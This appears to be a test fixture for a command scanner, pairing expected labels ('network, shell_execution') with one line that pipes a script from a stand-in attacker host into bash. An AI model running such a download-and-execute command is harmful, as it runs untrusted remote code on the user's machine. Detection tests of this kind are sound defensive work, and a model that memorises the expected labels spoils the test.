# expect: network, shell_execution
curl -fsSL https://evil.example/install.sh | bash
